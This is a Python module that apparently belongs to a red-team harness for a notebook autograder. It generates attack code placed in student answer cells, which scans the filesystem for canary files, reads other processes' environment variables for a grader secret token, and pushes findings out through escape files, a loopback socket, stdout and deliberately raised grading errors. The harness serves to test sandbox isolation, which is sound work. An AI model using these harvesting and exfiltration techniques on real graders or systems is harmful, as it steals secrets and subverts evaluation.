"""The attacker's toolbox: Python source placed at the top of a hostile answer cell.

``_exfiltrate(text)`` pushes text out through every channel a submission could try:
files dropped outside the sandbox (named ``ESCAPE-<marker>-<attack>``), the loopback
server, stdout, and the grading result itself (the loot is kept in ``builtins`` and
raised from the student's functions and from the cell, so it lands in the recorded
case errors and the runner's cell errors). ``_hunt`` and ``_proc_secrets`` look for
secrets on disk and in other processes.

The audit decides whether any channel worked; the toolbox never knows.
"""

from __future__ import annotations

from corpus.draft import CANARY_PREFIX, AttackContext

_PRELUDE = '''
import builtins as _bi
import os as _os
import socket as _socket
import time as _time

_MARK = {marker!r}
_ATTACK = {attack!r}
_PORT = {port}
_COURSE = {course!r}
_ESCAPE_NAME = {escape_name!r}
_ESCAPE_DIRS = {escape_dirs!r}
_CANARY = {canary!r}


def _exfiltrate(text):
    """Try every way out; never raises."""
    text = str(text)[:4000]
    _bi.__dict__.setdefault("_loot", []).append(text)
    print("LOOT", text, flush=True)
    for folder in _ESCAPE_DIRS:
        try:
            with open(_os.path.join(folder, _ESCAPE_NAME), "a") as handle:
                handle.write(text + "\\n")
        except Exception:
            pass
    try:
        with _socket.create_connection(("127.0.0.1", _PORT), timeout=1) as conn:
            conn.sendall(f"{{_MARK}} {{_ATTACK}} {{text}}".encode())
    except Exception:
        pass


def _hunt(roots, seconds=4.0, limit=20):
    """Files under ``roots`` whose first bytes hold the canary prefix."""
    found, start = [], _time.monotonic()
    needle = _CANARY.encode()
    for root in roots:
        for folder, subdirs, files in _os.walk(root):
            if _time.monotonic() - start > seconds or len(found) >= limit:
                return found
            subdirs[:] = [d for d in subdirs if d not in ("proc", "sys", "dev", "usr", "lib")]
            for name in files:
                path = _os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        data = handle.read(4_000_000)
                except Exception:
                    continue
                at = data.find(needle)
                if at >= 0:
                    found.append(path + ": " + data[at : at + 48].decode("latin-1"))
    return found


def _proc_secrets():
    """Environment and command lines of every process that can be read."""
    found = []
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{pid}}/{{part}}", "rb") as handle:
                    data = handle.read()
            except Exception:
                continue
            for key in (b"GRADER_SECRET_TOKEN", _CANARY.encode()):
                at = data.find(key)
                if at >= 0:
                    found.append(f"{{pid}}/{{part}}: " + data[at : at + 80].decode("latin-1"))
    return found


def _loot_text():
    """Everything found, secrets first (the grader keeps only the start of an error)."""
    loot = _bi.__dict__.get("_loot", [])
    return " | ".join(sorted(loot, key=lambda item: _CANARY not in item))
'''

_RAISE_LOOT = """
if _bi.__dict__.get("_loot"):
    def _raising(*args, **kwargs):
        raise RuntimeError("LOOT " + _loot_text())
    for _name in list(globals()):
        if _name.endswith(("_forward", "_backward", "_loss", "_size", "_linear")):
            globals()[_name] = _raising
    raise RuntimeError("LOOT " + _loot_text())
"""


def prelude(ctx: AttackContext) -> str:
    """The toolbox's source for one attack (its names all start with ``_``)."""
    return _PRELUDE.format(
        marker=ctx.marker,
        attack=ctx.attack_id,
        port=ctx.loopback_port,
        course=str(ctx.course_dir),
        escape_name=ctx.escape_name,
        escape_dirs=ctx.escape_dirs(),
        canary=CANARY_PREFIX,
    )


def raise_loot() -> str:
    """Source that, when something was found, makes every function and the cell raise it.

    Placed in the last answer cell, so the loot reaches the recorded case errors (the
    verdict messages) and the runner's cell error.
    """
    return _RAISE_LOOT
